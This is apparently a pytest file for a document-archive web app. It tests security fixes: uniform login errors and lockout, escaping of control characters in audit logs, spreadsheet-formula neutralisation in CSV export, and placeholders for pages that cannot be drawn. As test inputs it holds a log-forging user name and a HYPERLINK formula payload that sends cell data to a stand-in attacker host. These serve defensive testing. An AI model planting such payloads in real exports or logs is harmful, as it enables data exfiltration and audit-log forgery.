"""Issue 25, the web view's LOW findings: a disabled account answers like a wrong password;
audit rows show control characters as marks, their CSV export runs no formula, search and
arrivals rows name the documents shown; a page that cannot be drawn is a placeholder."""

from __future__ import annotations

import csv
import hashlib
import io
import re
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from sqlmodel import col, select

from docvault import audit, auth, db
from docvault.audit import AuditFilter
from docvault.models import AuditEvent, Document, utcnow
from docvault.web import queries
from docvault.web.app import create_app
from tests.support.webarchive import ADMIN, NURSE, WebArchive


@pytest.fixture
def client(archive: WebArchive) -> Iterator[TestClient]:
    with TestClient(create_app(archive.context), follow_redirects=False) as test_client:
        yield test_client


def _try_login(client: TestClient, name: str, password: str) -> tuple[int, str]:
    login = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").text)
    assert login
    answer = client.post(
        "/login", data={"name": name, "password": password, "csrf_token": login.group(1)}
    )
    error = re.search(r'<p class="error"[^>]*>(.*?)</p>', answer.text, re.DOTALL)
    return answer.status_code, error.group(1).strip() if error else ""


def _log_in(client: TestClient, user: tuple[str, str]) -> None:
    assert _try_login(client, *user)[0] == 303


def _events(archive: WebArchive, action: str) -> list[AuditEvent]:
    with db.read_session(archive.database) as session:
        return list(
            session.exec(
                select(AuditEvent).where(AuditEvent.action == action).order_by(col(AuditEvent.id))
            )
        )


def test_a_disabled_account_answers_like_a_wrong_password_and_counts(
    client: TestClient, archive: WebArchive
) -> None:
    auth.set_disabled(archive.database, "nurse", True)
    wrong = _try_login(client, NURSE[0], "not the password")
    right = _try_login(client, *NURSE)
    assert wrong == right == (401, "The user name or the password is wrong.")
    for _ in range(3):
        assert _try_login(client, *NURSE)[0] == 401
    # Five tries, right or wrong (both of the first two counted): the name is locked from
    # this address like any other.
    assert _try_login(client, *NURSE)[0] == 429
    auth.set_disabled(archive.database, "nurse", False)
    auth.unlock(archive.database, "nurse")
    _log_in(client, NURSE)


def test_control_characters_are_marks_in_rows_the_page_and_the_export(
    client: TestClient, archive: WebArchive
) -> None:
    forged = "nurse\n2026-12-02 login admin"
    assert _try_login(client, forged, "x")[0] == 401
    # A row written before this fix (or by another writer) is shown with marks as well.
    with db.write_transaction(archive.database) as session:
        session.add(
            AuditEvent(at=utcnow(), user_name="cron", action="download", detail="a\rb\x1b[31mc")
        )
    _log_in(client, ADMIN)
    client.get("/", params={"q": "tiptoeing\u202e"})
    (failed,) = _events(archive, "login failed")
    assert failed.user_name == "nurse[U+000A]2026-12-02 login admin"
    (search,) = _events(archive, "search")
    assert "[U+202E]" in search.detail
    assert "\u202e" not in search.detail
    page = client.get("/audit").text
    assert "nurse[U+000A]2026-12-02 login admin" in page
    assert "a[U+000D]b[U+001B][31mc" in page
    exported = "".join(audit.export_lines(audit.events(archive.database, AuditFilter()), "csv"))
    assert "\r" not in exported
    assert "\x1b" not in exported
    assert "a[U+000D]b[U+001B][31mc" in exported
    rows = list(audit.events(archive.database, AuditFilter()))
    assert len(exported.splitlines()) == 1 + len(rows)  # one line a row: nothing forged


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_exported_cell_is_a_spreadsheet_formula(archive: WebArchive, start: str) -> None:
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    audit.record(archive.database, formula, "login failed", formula, remote_address=formula)
    exported = "".join(audit.export_lines(audit.events(archive.database, AuditFilter()), "csv"))
    (row,) = list(csv.DictReader(io.StringIO(exported)))
    # Tab and carriage return are shown as marks first; the others get the apostrophe.
    safe_start = "[U+" if start in "\t\r" else "'"
    for field in ("user_name", "detail", "remote_address"):
        assert row[field].startswith(safe_start), (field, row[field])
        assert row[field].endswith('HYPERLINK("https://evil.example/?"&A1,"click")')
    assert row["id"].isdigit()  # numbers stay numbers


def test_search_and_arrival_rows_name_the_documents_shown(
    client: TestClient, archive: WebArchive
) -> None:
    _log_in(client, NURSE)
    client.get("/")
    client.get("/", params={"q": "tiptoeing"})
    token = auth.create_token(archive.database, "nurse", "", auth.TokenScope.read)
    client.get("/api/search", params={"q": "multi"}, headers={"Authorization": f"Bearer {token}"})
    arrivals, _ = queries.arrivals(archive.database, queries.ArrivalFilter(), 0, 20)
    listed = ", ".join(str(arrival.document_id) for arrival in arrivals)
    (viewed,) = _events(archive, "view arrivals")
    assert viewed.detail == f"-> documents {listed}"
    searches = [event.detail for event in _events(archive, "search")]
    assert searches == [
        f"tiptoeing -> documents {archive.huck_finn}",
        f"multi -> documents {archive.multi_page}",
    ]


def test_a_page_that_cannot_be_drawn_is_a_placeholder_not_a_500(
    client: TestClient, archive: WebArchive
) -> None:
    page_id = archive.page_id(archive.huck_finn, 1)
    # An original archived as it came, intact (its bytes match its sha256), that cannot be
    # drawn. (Bytes changed behind docvault's back are another sentence: the archived file
    # was changed, tests/runtime/test_faults_daemon.py.)
    damaged = b"%PDF-1.4 damaged beyond repair"
    sha256 = hashlib.sha256(damaged).hexdigest()
    relative = f"archive/{sha256[:2]}/{sha256}.pdf"
    (archive.data_dir / relative).parent.mkdir(parents=True, exist_ok=True)
    (archive.data_dir / relative).write_bytes(damaged)
    with db.write_transaction(archive.database) as session:
        document = session.get(Document, archive.huck_finn)
        assert document is not None
        document.archive_path, document.sha256 = relative, sha256
        session.add(document)
    _log_in(client, NURSE)
    for path in (f"/pages/{page_id}/image.png", f"/pages/{page_id}/thumbnail.jpg"):
        answer = client.get(path)
        assert answer.status_code == 200, (path, answer.text)
        assert answer.headers["content-type"] == "image/svg+xml"
        assert answer.content.startswith(b"<svg")
        assert b"cannot be drawn" in answer.content
    crop = client.get(f"/pages/{page_id}/figures/20_90_480_880.jpg")
    assert crop.status_code == 404
    assert "The image of this page cannot be drawn" in crop.text
    assert str(archive.data_dir) not in crop.text  # no server path for staff


def test_each_row_says_whether_a_browser_or_a_token_acted(
    client: TestClient, archive: WebArchive
) -> None:
    """Issue 44 (INFO): the same user's search by browser and by API token were rows alike."""
    _log_in(client, NURSE)
    client.get("/", params={"q": "tiptoeing"})
    token = auth.create_token(archive.database, "nurse", "", auth.TokenScope.read)
    client.cookies.clear()
    answer = client.get(
        "/api/search", params={"q": "tiptoeing"}, headers={"Authorization": f"Bearer {token}"}
    )
    assert answer.status_code == 200
    (login,) = _events(archive, "login")
    assert login.via == "browser"
    assert [(event.user_name, event.via) for event in _events(archive, "search")] == [
        ("nurse", "browser"),
        ("nurse", "token"),
    ]
    exported = "".join(audit.export_lines(audit.events(archive.database, AuditFilter()), "csv"))
    vias = {row["via"] for row in csv.DictReader(io.StringIO(exported))}
    assert {"browser", "token"} <= vias
